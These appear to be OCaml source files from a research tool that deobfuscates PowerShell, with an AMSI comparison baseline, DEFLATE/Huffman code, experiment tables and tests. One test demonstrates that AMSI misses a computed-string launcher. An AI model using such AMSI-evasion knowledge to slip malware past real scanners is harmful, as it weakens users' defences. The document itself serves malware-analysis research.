  let limits = { Pseval.Env.default_limits with Pseval.Env.max_steps } in
  let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox ~limits () in
  env.Pseval.Env.downloads_fail <- true;
  let layers = ref [ script ] in
  env.Pseval.Env.iex_hook <-
    Some
      (fun ~literal:_ payload ->
        layers := payload :: !layers;
        (* AMSI observes and lets execution continue *)
        false);
  (match Pseval.Interp.run_script env script with Ok _ | Error _ -> ());
  { layers = List.rev !layers; events = Pseval.Env.events env }

(** The deepest layer AMSI saw — what an analyst reads out of an AMSI
    trace. *)
let final_layer capture =
  match List.rev capture.layers with
  | deepest :: _ -> deepest
  | [] -> ""

let tool =
  {
    Tool.name = "AMSI";
    deobfuscate =
      (fun script ->
        let capture = scan script in
        {
          Tool.result = final_layer capture;
          simulated_seconds = Tool.simulated_cost capture.events;
        });
  }
