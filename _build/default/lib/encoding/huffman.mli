(** Canonical Huffman code tables for DEFLATE.

    Both directions are derived from code {e lengths} only, as RFC 1951
    specifies: codes of the same length are assigned in symbol order. *)

type decoder

val decoder_of_lengths : int array -> (decoder, string) result
(** Build a decoder from per-symbol code lengths (0 = unused).
    [Error _] if the lengths describe an over- or under-subscribed code
    (a single-symbol code is accepted, as zlib does). *)

val read_symbol : decoder -> Bitstream.Reader.t -> int
(** Decode one symbol. @raise Failure on an invalid code or exhausted
    input. *)

val codes_of_lengths : int array -> int array
(** Canonical code for each symbol (meaningless where length is 0). *)

val fixed_literal_lengths : unit -> int array
(** The fixed literal/length code of RFC 1951 §3.2.6 (288 symbols). *)

val fixed_distance_lengths : unit -> int array
(** The fixed distance code (32 symbols, all length 5). *)

val lengths_of_frequencies : max_length:int -> int array -> int array
(** Package-merge-free length assignment: build a Huffman tree over nonzero
    frequencies, then flatten overly deep leaves to [max_length] by the
    standard length-adjustment.  Used by the compressor's dynamic blocks. *)
