lib/obfuscator/technique.ml: List String
