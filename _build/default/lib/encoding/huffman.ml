let max_bits = 15

let codes_of_lengths lengths =
  let bl_count = Array.make (max_bits + 1) 0 in
  Array.iter (fun l -> if l > 0 then bl_count.(l) <- bl_count.(l) + 1) lengths;
  let next_code = Array.make (max_bits + 1) 0 in
  let code = ref 0 in
  for bits = 1 to max_bits do
    code := (!code + bl_count.(bits - 1)) lsl 1;
    next_code.(bits) <- !code
  done;
  Array.map
    (fun l ->
      if l = 0 then 0
      else begin
        let c = next_code.(l) in
        next_code.(l) <- c + 1;
        c
      end)
    lengths

(* Decoder: binary trie stored in an int array.  node i has children at
   2i+1 / 2i+2 laid out in a growable array; leaves store symbol. *)
type decoder = { counts : int array; symbols : int array }

(* zlib-style canonical decoding: counts.(l) = number of codes of length l;
   symbols sorted by (length, symbol). *)
let decoder_of_lengths lengths =
  let counts = Array.make (max_bits + 1) 0 in
  Array.iter (fun l -> if l > 0 then counts.(l) <- counts.(l) + 1) lengths;
  let total = Array.fold_left ( + ) 0 counts in
  if total = 0 then Error "huffman: no symbols"
  else begin
    (* check for over-subscription *)
    let left = ref 1 in
    let oversubscribed = ref false in
    for l = 1 to max_bits do
      left := (!left lsl 1) - counts.(l);
      if !left < 0 then oversubscribed := true
    done;
    if !oversubscribed then Error "huffman: over-subscribed code"
    else if !left > 0 && total > 1 then Error "huffman: incomplete code"
    else begin
      let offsets = Array.make (max_bits + 2) 0 in
      for l = 1 to max_bits do
        offsets.(l + 1) <- offsets.(l) + counts.(l)
      done;
      let symbols = Array.make total 0 in
      Array.iteri
        (fun sym l ->
          if l > 0 then begin
            symbols.(offsets.(l)) <- sym;
            offsets.(l) <- offsets.(l) + 1
          end)
        lengths;
      Ok { counts; symbols }
    end
  end

let read_symbol d reader =
  let code = ref 0 and first = ref 0 and index = ref 0 in
  let result = ref (-1) in
  let len = ref 1 in
  while !result < 0 do
    if !len > max_bits then failwith "huffman: invalid code";
    code := !code lor Bitstream.Reader.bit reader;
    let count = d.counts.(!len) in
    if !code - count < !first then result := d.symbols.(!index + (!code - !first))
    else begin
      index := !index + count;
      first := (!first + count) lsl 1;
      code := !code lsl 1;
      incr len
    end
  done;
  !result

let fixed_literal_lengths () =
  Array.init 288 (fun i ->
      if i < 144 then 8 else if i < 256 then 9 else if i < 280 then 7 else 8)

let fixed_distance_lengths () = Array.make 32 5

(* Simple Huffman-tree construction over frequencies, then limit depth. *)
let lengths_of_frequencies ~max_length freqs =
  let n = Array.length freqs in
  let module Node = struct
    type t = { weight : int; kind : kind }
    and kind = Leaf of int | Internal of t * t
  end in
  let leaves =
    Array.to_list freqs
    |> List.mapi (fun i f -> (i, f))
    |> List.filter (fun (_, f) -> f > 0)
    |> List.map (fun (i, f) -> Node.{ weight = f; kind = Leaf i })
  in
  let lengths = Array.make n 0 in
  match leaves with
  | [] -> lengths
  | [ Node.{ kind = Leaf i; _ } ] ->
      lengths.(i) <- 1;
      lengths
  | _ ->
      (* Build tree with a sorted-list "priority queue"; symbol counts in
         DEFLATE are small (≤288), so O(n² log n) worst case is fine. *)
      let rec build = function
        | [] -> assert false
        | [ node ] -> node
        | nodes ->
            let sorted =
              List.sort (fun a b -> Int.compare a.Node.weight b.Node.weight) nodes
            in
            (match sorted with
            | a :: b :: rest ->
                let merged =
                  Node.{ weight = a.weight + b.weight; kind = Internal (a, b) }
                in
                build (merged :: rest)
            | _ -> assert false)
      in
      let root = build leaves in
      let rec assign depth node =
        match node.Node.kind with
        | Node.Leaf i -> lengths.(i) <- max depth 1
        | Node.Internal (a, b) ->
            assign (depth + 1) a;
            assign (depth + 1) b
      in
      assign 0 root;
      (* Flatten codes deeper than max_length: repeatedly move an
         overly-deep leaf up by demoting a shallower one (standard zlib
         bl-limit adjustment, done here on Kraft sums). *)
      let kraft () =
        Array.fold_left
          (fun acc l -> if l > 0 then acc +. (1.0 /. float_of_int (1 lsl min l max_length)) else acc)
          0.0 lengths
      in
      Array.iteri (fun i l -> if l > max_length then lengths.(i) <- max_length) lengths;
      (* Restore Kraft inequality <= 1 by lengthening the shortest codes. *)
      let rec fix () =
        if kraft () > 1.0 +. 1e-9 then begin
          (* find a symbol with length < max_length and smallest frequency *)
          let best = ref (-1) in
          Array.iteri
            (fun i l ->
              if l > 0 && l < max_length then
                match !best with
                | -1 -> best := i
                | j -> if freqs.(i) < freqs.(j) then best := i)
            lengths;
          match !best with
          | -1 -> ()
          | i ->
              lengths.(i) <- lengths.(i) + 1;
              fix ()
        end
      in
      fix ();
      lengths
