test/test_experiments.ml: Alcotest Baselines Deobf Experiments Lazy List Obfuscator String
