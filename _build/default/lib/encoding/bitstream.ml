module Reader = struct
  type t = { src : string; mutable pos : int; mutable acc : int; mutable nbits : int }

  let create src = { src; pos = 0; acc = 0; nbits = 0 }

  let refill t =
    if t.pos >= String.length t.src then failwith "Bitstream.Reader: out of input";
    t.acc <- t.acc lor (Char.code t.src.[t.pos] lsl t.nbits);
    t.pos <- t.pos + 1;
    t.nbits <- t.nbits + 8

  let bits t n =
    assert (n >= 0 && n <= 24);
    while t.nbits < n do
      refill t
    done;
    let v = t.acc land ((1 lsl n) - 1) in
    t.acc <- t.acc lsr n;
    t.nbits <- t.nbits - n;
    v

  let bit t = bits t 1

  let align_byte t =
    let drop = t.nbits mod 8 in
    t.acc <- t.acc lsr drop;
    t.nbits <- t.nbits - drop

  let bytes t n =
    align_byte t;
    let from_acc = min n (t.nbits / 8) in
    let buf = Buffer.create n in
    for _ = 1 to from_acc do
      Buffer.add_char buf (Char.chr (t.acc land 0xFF));
      t.acc <- t.acc lsr 8;
      t.nbits <- t.nbits - 8
    done;
    let remaining = n - from_acc in
    if t.pos + remaining > String.length t.src then
      failwith "Bitstream.Reader: out of input";
    Buffer.add_substring buf t.src t.pos remaining;
    t.pos <- t.pos + remaining;
    Buffer.contents buf
end

module Writer = struct
  type t = { buf : Buffer.t; mutable acc : int; mutable nbits : int }

  let create () = { buf = Buffer.create 256; acc = 0; nbits = 0 }

  let flush_full_bytes t =
    while t.nbits >= 8 do
      Buffer.add_char t.buf (Char.chr (t.acc land 0xFF));
      t.acc <- t.acc lsr 8;
      t.nbits <- t.nbits - 8
    done

  let bits t ~value ~count =
    t.acc <- t.acc lor ((value land ((1 lsl count) - 1)) lsl t.nbits);
    t.nbits <- t.nbits + count;
    flush_full_bytes t

  let huffman t ~code ~length =
    (* Reverse the code: RFC 1951 packs Huffman codes MSB-first into the
       LSB-first stream. *)
    let rev = ref 0 in
    for i = 0 to length - 1 do
      if code land (1 lsl i) <> 0 then rev := !rev lor (1 lsl (length - 1 - i))
    done;
    bits t ~value:!rev ~count:length

  let align_byte t =
    let pad = (8 - (t.nbits mod 8)) mod 8 in
    if pad > 0 then bits t ~value:0 ~count:pad;
    flush_full_bytes t

  let byte t c =
    assert (t.nbits = 0);
    Buffer.add_char t.buf c

  let contents t =
    if t.nbits > 0 then begin
      Buffer.add_char t.buf (Char.chr (t.acc land 0xFF));
      t.acc <- 0;
      t.nbits <- 0
    end;
    Buffer.contents t.buf
end
