(** Table IV — behavioural consistency.

    For the samples with network behaviour among the 100-sample set, run
    original and deobfuscated scripts in the sandbox and compare network
    event sets.  Results that return the input unchanged are not effective
    deobfuscations (paper §IV-C3). *)

type row = {
  tool : string;
  with_network : int;  (** deobfuscated outputs exhibiting network behaviour *)
  effective : int;  (** changed output with identical network behaviour *)
  proportion : float;
}

type result = { original_with_network : int; rows : row list }

let run ?(tools = Baselines.All_tools.all) (set : Effectiveness.sample_set) =
  let originals_with_network =
    List.filter
      (fun s ->
        Sandbox.has_network_behavior (Sandbox.run s.Corpus.Generator.obfuscated))
      set.Effectiveness.samples
  in
  let n = List.length originals_with_network in
  let rows =
    List.map
      (fun tool ->
        let outputs =
          List.map
            (fun s ->
              (s, (tool.Baselines.Tool.deobfuscate s.Corpus.Generator.obfuscated).Baselines.Tool.result))
            originals_with_network
        in
        let with_network =
          List.length
            (List.filter
               (fun (_, out) -> Sandbox.has_network_behavior (Sandbox.run out))
               outputs)
        in
        let effective =
          List.length
            (List.filter
               (fun (s, out) ->
                 Sandbox.effective ~original:s.Corpus.Generator.obfuscated
                   ~deobfuscated:out)
               outputs)
        in
        {
          tool = tool.Baselines.Tool.name;
          with_network;
          effective;
          proportion = 100.0 *. float_of_int effective /. float_of_int (max 1 n);
        })
      tools
  in
  { original_with_network = n; rows }

let paper_numbers =
  [ ("PSDecode", "8/32 (25%)"); ("PowerDrive", "8/32 (25%)");
    ("PowerDecode", "12/32 (37.5%)"); ("Li et al.", "0/32 (0%)");
    ("Invoke-Deobfuscation", "32/32 (100%)") ]

let print result =
  Printf.printf "Table IV: behavioural consistency (original samples with network: %d)\n"
    result.original_with_network;
  Printf.printf "  %-22s %13s %10s %12s %18s\n" "Tool" "#WithNetwork"
    "#Effective" "Proportion" "(paper)";
  List.iter
    (fun r ->
      let paper =
        match List.assoc_opt r.tool paper_numbers with Some p -> p | None -> "-"
      in
      Printf.printf "  %-22s %13d %10d %11.1f%% %18s\n" r.tool r.with_network
        r.effective r.proportion paper)
    result.rows
