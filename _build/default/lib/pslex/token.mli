(** PowerShell tokens.

    Mirrors the attribute surface of
    [System.Management.Automation.PSParser.Tokenize]: every token exposes its
    kind, semantic {e content} (string contents without quotes, command names
    with backticks removed), the exact source {e text}, and its extent.  The
    token-parsing phase of the deobfuscator consumes exactly these
    attributes. *)

type kind =
  | Command  (** bareword in command position, e.g. [IeX] *)
  | Command_argument  (** bareword argument *)
  | Command_parameter  (** [-Name] or [-Name:] *)
  | Comment
  | Group_start  (** [( { $( @( @{] *)
  | Group_end  (** [) }] *)
  | Index_start  (** ["\["] in index position *)
  | Index_end  (** ["\]"] *)
  | Keyword
  | Line_continuation  (** backtick newline *)
  | Member  (** member name after [.] / [::], or hash key *)
  | New_line
  | Number
  | Operator
  | Statement_separator  (** [;] *)
  | String_single
  | String_double
  | String_single_here
  | String_double_here
  | Type_name  (** [\[System.Text.Encoding\]]; content is the inner name *)
  | Variable  (** [$name], [${name}], [$scope:name]; content is [scope:name] *)
  | Splat_variable  (** [@name] *)

type t = {
  kind : kind;
  content : string;
      (** semantic content: unquoted string value, backtick-free bareword,
          variable name without [$] *)
  text : string;  (** exact source slice *)
  extent : Pscommon.Extent.t;
}

val kind_name : kind -> string
val pp : Format.formatter -> t -> unit

val is_string : t -> bool
(** Any of the four string kinds. *)

val is_bareword : t -> bool
(** Command or argument bareword. *)
