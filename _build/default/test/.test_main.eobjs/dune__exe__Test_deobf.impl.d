test/test_deobf.ml: Alcotest Baselines Corpus Deobf Encoding Experiments Gen List Obfuscator Printf Pscommon Psparse QCheck QCheck_alcotest Rng Sandbox Strcase String Unix
