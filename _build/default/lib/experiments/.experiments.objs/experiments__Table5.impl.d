lib/experiments/table5.ml: Baselines Corpus Deobf Fun Int List Printf Psparse String
