(** NDJSON client for the serve daemon: submit files over a socket with
    retry-aware backpressure handling — the client half of the admission
    control contract.

    Each file is sent as one [{"id":…, "script":…}] request line; the
    matching response line is awaited before the next file is sent (one
    request in flight per connection).  An ["overloaded"] response is
    honoured by sleeping the server's [retry_after_ms] hint scaled by
    jittered exponential backoff ([retry_after_ms * 2^attempt * U(0.5,1.5)],
    capped at 30 s) and retrying, up to [max_retries] attempts; a herd of
    shed clients therefore de-synchronizes instead of re-arriving in
    lockstep.  Structured errors (["wedged"], ["timeout"], …) are final:
    the daemon already contained the failure, so the same input would fail
    the same way.

    One NDJSON result line is printed per file, then a one-line summary
    object.  Exit code 0 when every file was answered ["ok"] or
    ["degraded"]; 1 when any was shed past the retry budget, failed, or
    the connection could not be established. *)

type result_kind = Done | Shed | Failed

type file_result = {
  r_file : string;
  r_kind : result_kind;
  r_status : string;
      (** final response status or error kind, or a transport reason *)
  r_attempts : int;  (** submission attempts; 1 means no retry was needed *)
  r_wall_ms : float;
  r_output_file : string option;
}

val backoff_ms : Random.State.t -> retry_after_ms:int -> attempt:int -> float
(** The jittered exponential backoff schedule (exposed for tests):
    [retry_after_ms * 2^attempt * U(0.5, 1.5)] milliseconds, capped at
    30 000. *)

val run :
  ?max_retries:int ->
  ?timeout_s:float ->
  ?verify:bool ->
  ?out_dir:string ->
  ?rng_seed:int ->
  addr:Serve.bind ->
  string list ->
  int
(** [run ~addr files] submits each file and returns the process exit
    code.  [out_dir] writes each ["output"] next to the input's basename
    (created if missing); without it outputs are not persisted, only the
    per-file result lines.  [timeout_s] and [verify] are forwarded
    per-request when given.  [rng_seed] makes the backoff jitter
    deterministic (tests). *)
