lib/deobf/report.ml: Buffer Char Engine Keyinfo List Printf Recover Score String
