(** The common shape of the compared deobfuscation tools. *)

type output = {
  result : string;  (** the tool's final deobfuscation layer *)
  simulated_seconds : float;
      (** run time the tool would spend executing unrelated commands
          (sleeps, dead-network timeouts) — Fig 6's fluctuation *)
}

type t = {
  name : string;
  deobfuscate : string -> output;
}

val simulated_cost : Pseval.Env.event list -> float
(** Seconds of side-effect cost for a tool that executed the sample. *)

val plain : string -> output
(** Output with no simulated cost. *)

val guard : ?timeout_s:float -> t -> t
(** Contain the tool: a crash or wall-clock overrun on a hostile sample
    returns the sample unchanged instead of killing the run.  The deadline
    is ambient ({!Pscommon.Guard}), so every evaluator the tool creates
    inherits it. *)
