(* Smoke tests for the experiment harnesses (small workloads) and the key
   claims each must exhibit. *)

let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)
let check_s = Alcotest.(check string)

let our_tool = Baselines.All_tools.invoke_deobfuscation

let test_table1_small () =
  let r = Experiments.Table1.run ~seed:3 ~count:60 () in
  check_i "total" 60 r.Experiments.Table1.total;
  List.iter
    (fun row ->
      check_b "proportion in range" true
        (row.Experiments.Table1.proportion >= 0.0
        && row.Experiments.Table1.proportion <= 100.0);
      (* the wild distribution puts every level well above half *)
      check_b "level common" true (row.Experiments.Table1.proportion > 50.0))
    r.Experiments.Table1.rows

let test_table2_our_tool_handles_concat () =
  check_b "concat full" true
    (Experiments.Table2.test_cell our_tool Obfuscator.Technique.Str_concat
    = Experiments.Table2.Full)

(* The paper's Table II marks whitespace encoding "x" for its tool: the
   decoder is a loop and Algorithm 1 cannot trace it.  That is still true of
   our static pipeline, but the provenance-guided dynamic stage folds the
   decoder, so the full tool now fills the paper's one empty cell. *)
let static_tool =
  {
    Baselines.Tool.name = "Invoke-Deobfuscation (static)";
    deobfuscate =
      (fun script ->
        let options =
          { Deobf.Engine.default_options with
            recovery =
              { Deobf.Engine.default_options.Deobf.Engine.recovery with
                Deobf.Engine.use_dynamic = false } }
        in
        Baselines.Tool.plain (Deobf.Engine.run ~options script).Deobf.Engine.output);
  }

let test_table2_whitespace_encoding_static_limit () =
  check_b "whitespace encoding not full statically" true
    (Experiments.Table2.test_cell static_tool Obfuscator.Technique.Enc_whitespace
    <> Experiments.Table2.Full);
  check_b "whitespace encoding full with dynamic recovery" true
    (Experiments.Table2.test_cell our_tool Obfuscator.Technique.Enc_whitespace
    = Experiments.Table2.Full)

let test_table2_psdecode_only_ticking () =
  check_b "psdecode ticking" true
    (Experiments.Table2.test_cell Baselines.Psdecode.tool Obfuscator.Technique.Ticking
    = Experiments.Table2.Full);
  check_b "psdecode not base64" true
    (Experiments.Table2.test_cell Baselines.Psdecode.tool Obfuscator.Technique.Enc_base64
    <> Experiments.Table2.Full)

let test_table3_ours_handles_all () =
  let r = Experiments.Table3.run ~seed:77 ~count:4 ~tools:[ our_tool ] () in
  match r.Experiments.Table3.rows with
  | [ row ] -> check_i "all handled" 4 row.Experiments.Table3.handled
  | _ -> Alcotest.fail "expected one row"

let small_set = lazy (Experiments.Effectiveness.make_samples ~seed:5 ~count:12 ())

let test_fig5_ours_matches_manual () =
  let set = Lazy.force small_set in
  let r = Experiments.Effectiveness.run_fig5 ~tools:[ our_tool ] set in
  match r.Experiments.Effectiveness.rows with
  | [ row ] ->
      check_b "nearly all manual" true
        (row.Experiments.Effectiveness.same_as_manual >= 0.9)
  | _ -> Alcotest.fail "expected one row"

let test_table4_ours_fully_consistent () =
  let set = Lazy.force small_set in
  let r = Experiments.Table4.run ~tools:[ our_tool ] set in
  match r.Experiments.Table4.rows with
  | [ row ] ->
      check_i "all effective" r.Experiments.Table4.original_with_network
        row.Experiments.Table4.effective
  | _ -> Alcotest.fail "expected one row"

let test_amsi_bypass_demo () =
  let amsi_sees, we_see = Experiments.Amsi_compare.bypass_demo () in
  check_b "amsi blind to computed string" false amsi_sees;
  check_b "deobf exposes it" true we_see

let test_unknown_techniques_ours_recovers () =
  let rows = Experiments.Unknown_techniques.run ~tools:[ our_tool ] () in
  check_i "four techniques" 4 (List.length rows);
  List.iter
    (fun r ->
      match r.Experiments.Unknown_techniques.recovered_by with
      | [ (_, ok) ] ->
          check_b (r.Experiments.Unknown_techniques.technique ^ " recovered") true ok
      | _ -> Alcotest.fail "expected one tool")
    rows

let test_ablation_variant_list () =
  check_i "five variants" 5 (List.length Experiments.Ablation.variants);
  check_s "first is full" "full"
    (List.hd Experiments.Ablation.variants).Experiments.Ablation.name

(* ---------- simplify ---------- *)

let test_simplify_paren_literal () =
  check_s "string paren" "'x'" (String.trim (Deobf.Simplify.run "('x')"));
  check_s "nested stays valid" "$a = 'x'"
    (String.trim (Deobf.Simplify.run "$a = ('x')"))

let test_simplify_keeps_needed_parens () =
  (* (5).ToString() needs them; .('iex') is the canonical launcher form *)
  check_s "number member" "(5).ToString()"
    (String.trim (Deobf.Simplify.run "(5).ToString()"));
  check_s "command name parens" ".('iex') 'x'"
    (String.trim (Deobf.Simplify.run ".('iex') 'x'"))

let test_simplify_in_engine () =
  let out = (Deobf.Engine.run "$name = (-join ('dcba'[-1..-4]))").Deobf.Engine.output in
  check_s "reverse collapses to bare literal" "$name = 'abcd'" (String.trim out)

let suite =
  [
    ("table1 small", `Slow, test_table1_small);
    ("table2 ours concat", `Slow, test_table2_our_tool_handles_concat);
    ("table2 whitespace static limit", `Slow, test_table2_whitespace_encoding_static_limit);
    ("table2 psdecode", `Slow, test_table2_psdecode_only_ticking);
    ("table3 ours", `Slow, test_table3_ours_handles_all);
    ("fig5 ours = manual", `Slow, test_fig5_ours_matches_manual);
    ("table4 ours consistent", `Slow, test_table4_ours_fully_consistent);
    ("amsi bypass demo", `Quick, test_amsi_bypass_demo);
    ("unknown techniques", `Quick, test_unknown_techniques_ours_recovers);
    ("ablation variants", `Quick, test_ablation_variant_list);
    ("simplify paren literal", `Quick, test_simplify_paren_literal);
    ("simplify keeps needed parens", `Quick, test_simplify_keeps_needed_parens);
    ("simplify in engine", `Quick, test_simplify_in_engine);
  ]
