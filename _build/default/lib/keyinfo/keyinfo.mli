(** Key-information extraction (paper §IV-C2, Fig 5): the four indicator
    types analysts need from a deobfuscated sample. *)

type t = {
  ps1_files : string list;
  powershell_commands : string list;
  urls : string list;
  ips : string list;
}

val empty : t

val extract : string -> t
(** Deduplicated (caseless) indicators found in a script. *)

val count : t -> int

val intersection : ground_truth:t -> t -> t
(** The indicators of [ground_truth] that also appear in the extraction —
    how a tool's output is compared against manual deobfuscation. *)

val pp : Format.formatter -> t -> unit
